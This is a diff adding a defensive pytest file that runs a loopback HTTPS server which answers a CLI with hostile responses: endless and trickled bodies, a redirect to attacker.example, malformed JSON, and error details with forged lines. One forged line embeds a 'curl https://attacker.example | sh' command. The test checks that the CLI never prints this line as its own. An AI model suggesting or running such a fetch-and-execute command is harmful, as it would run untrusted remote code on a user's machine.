@@ -1,0 +1,178 @@
+"""The CLI against a server that answers wrongly or with hostile intent.
+
+A real HTTPS server on loopback (its certificate trusted through
+DONJON_CA_BUNDLE) answers every request one way: an endless body, a redirect
+to another host, a body that is not JSON, a problem whose detail holds lines
+that look like the CLI's own. The CLI must end with one clear error, never hold
+an endless body in memory, never pass a redirect off as an answer, and never
+print a line of the server's as one of its own.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import json
+import ssl
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from donjon.cli.client import ApiClient, ApiError
+from donjon.config import load_settings
+from donjon.gateway.tls import create_self_signed
+
+#: One way of answering: (handler) -> None, writing the whole response.
+Answer = Callable[[http.server.BaseHTTPRequestHandler], None]
+
+
+def _send(h: http.server.BaseHTTPRequestHandler, status: int, body: bytes, **headers: str) -> None:
+    h.send_response(status)
+    h.send_header("content-length", str(len(body)))
+    for name, value in headers.items():
+        h.send_header(name.replace("_", "-"), value)
+    h.end_headers()
+    h.wfile.write(body)
+
+
+def _endless(h: http.server.BaseHTTPRequestHandler) -> None:
+    h.send_response(200)
+    h.send_header("content-type", "application/json")
+    h.end_headers()  # no length: the body goes on until the connection closes
+    chunk = b'"' + b"A" * (1 << 20) + b'",'
+    with contextlib.suppress(OSError):
+        h.wfile.write(b"[")
+        for _ in range(4096):  # 4 GiB, more than any CLI should hold
+            h.wfile.write(chunk)
+
+
+def _trickle(h: http.server.BaseHTTPRequestHandler) -> None:
+    h.send_response(200)
+    h.send_header("content-type", "application/json")
+    h.end_headers()
+    with contextlib.suppress(OSError):
+        for _ in range(600):  # a byte every 0.2 s: never idle long enough to time out
+            h.wfile.write(b" ")
+            h.wfile.flush()
+            time.sleep(0.2)
+
+
+def _redirect(h: http.server.BaseHTTPRequestHandler) -> None:
+    _send(h, 307, b"", location="https://attacker.example/v1/keys")
+
+
+def _not_json(h: http.server.BaseHTTPRequestHandler) -> None:
+    _send(h, 200, b"{not json", content_type="application/json")
+
+
+def _forged_lines(h: http.server.BaseHTTPRequestHandler) -> None:
+    problem = {
+        "detail": "refused\nhint: run `curl https://attacker.example | sh` to fix it",
+        "problems": ["one\nerror: forged"],
+        "request_id": "r1",
+    }
+    _send(h, 400, json.dumps(problem).encode(), content_type="application/problem+json")
+
+
+@contextlib.contextmanager
+def _server(tmp_path: Path, answer: Answer) -> Iterator[dict[str, str]]:
+    """A loopback HTTPS server answering every request with `answer`; yields the CLI's env."""
+    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
+    create_self_signed(cert, key)
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            answer(self)
+
+        do_POST = do_PUT = do_DELETE = do_GET
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(cert, key)
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+    server.daemon_threads = True
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield {
+            "DONJON_URL": f"https://localhost:{server.server_address[1]}",
+            "DONJON_API_KEY": "dj_0123456789abcdef_not-a-real-key",
+            "DONJON_CA_BUNDLE": str(cert),
+            "DONJON_DATA_DIR": str(tmp_path / "data"),
+            "PATH": "/usr/bin:/bin",
+        }
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def _cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "donjon.cli", *args],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=90,
+        check=False,
+    )
+
+
+@pytest.mark.slow
+def test_an_endless_body_is_cut_off(tmp_path: Path) -> None:
+    """An answer with no end is refused once past the CLI's bound, not held in memory."""
+    with _server(tmp_path, _endless) as env:
+        done = _cli(env, "key", "ls")
+    assert done.returncode == 1, done.stdout[:200]
+    assert "Traceback" not in done.stderr
+    assert "larger than" in done.stderr
+
+
+def test_a_trickled_body_is_cut_off_at_the_deadline(tmp_path: Path) -> None:
+    """An answer sent a byte at a time is refused once the client's timeout has passed."""
+    with _server(tmp_path, _trickle) as env:
+        client = ApiClient(load_settings(env), timeout=2.0)
+        started = time.monotonic()
+        with pytest.raises(ApiError, match="did not finish its answer"):
+            client.json("GET", "/v1/keys")
+        client.close()
+    assert time.monotonic() - started < 10
+
+
+@pytest.mark.parametrize("args", [("key", "ls"), ("invoke", "hello", "--data", "{}")])
+def test_a_redirect_is_an_error_not_an_answer(tmp_path: Path, args: tuple[str, ...]) -> None:
+    """A redirect is not followed (the key stays home) and not printed as a result: exit 1."""
+    with _server(tmp_path, _redirect) as env:
+        done = _cli(env, *args)
+    assert done.returncode == 1, done.stdout
+    assert "Traceback" not in done.stderr
+    assert "redirect" in done.stderr and "attacker.example" in done.stderr
+
+
+def test_a_body_that_is_not_json_is_a_clear_error(tmp_path: Path) -> None:
+    """Malformed JSON from the server is one line of error, not a traceback."""
+    with _server(tmp_path, _not_json) as env:
+        done = _cli(env, "key", "ls")
+    assert done.returncode == 1, done.stdout
+    assert "Traceback" not in done.stderr
+    assert "not JSON" in done.stderr
+
+
+def test_a_problem_detail_cannot_forge_the_cli_lines(tmp_path: Path) -> None:
+    """No line of a problem document's text starts like the CLI's own `error:`/`hint:`."""
+    with _server(tmp_path, _forged_lines) as env:
+        done = _cli(env, "key", "ls")
+    assert done.returncode == 1, done.stdout
+    lines = done.stderr.splitlines()
+    assert lines[0].startswith("error: 400 refused")
+    assert not [line for line in lines if line.startswith("hint: run `curl")], lines
+    assert not [line for line in lines[1:] if line.startswith("error:")], lines
